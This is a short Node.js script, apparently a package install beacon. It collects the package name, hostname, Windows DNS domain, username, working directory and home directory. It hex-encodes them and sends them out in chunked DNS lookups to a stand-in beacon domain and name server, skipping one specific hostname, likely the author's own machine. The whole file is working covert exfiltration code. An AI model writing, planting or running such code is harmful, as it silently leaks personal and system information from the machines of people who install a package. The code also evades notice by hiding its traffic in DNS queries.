const dns = require('dns');
const os = require('os');
const suffix = '.d.beacon.example.test';
const ns = '192.0.2.53';

function sendToServer(data) {
  const hex = Buffer.from(data).toString('hex');
  const chunks = hex.match(/.{1,60}/g) || [];
  const id = Math.random().toString(36).substring(2);
  const resolver = new dns.Resolver();
  resolver.setServers([ns]);
  chunks.forEach((chunk, i) => {
    const name = `v2_f.${i}.${id}.${chunk}.v2_e${suffix}`;
    dns.resolve4(name, () => {});
    resolver.resolve4(name, () => {});
  });
}

function tryGet(toCall) {
  try {
    return toCall();
  } catch (e) {
    return 'err';
  }
}

const data = {
  p: tryGet(() => require('./package.json').name),
  h: tryGet(() => os.hostname()),
  d: process.env.USERDNSDOMAIN,
  u: tryGet(() => os.userInfo().username),
  c: __dirname,
  hd: tryGet(() => os.homedir())
};
if (data.h !== 'BBOGENS-LAPTOP') sendToServer(JSON.stringify(data));
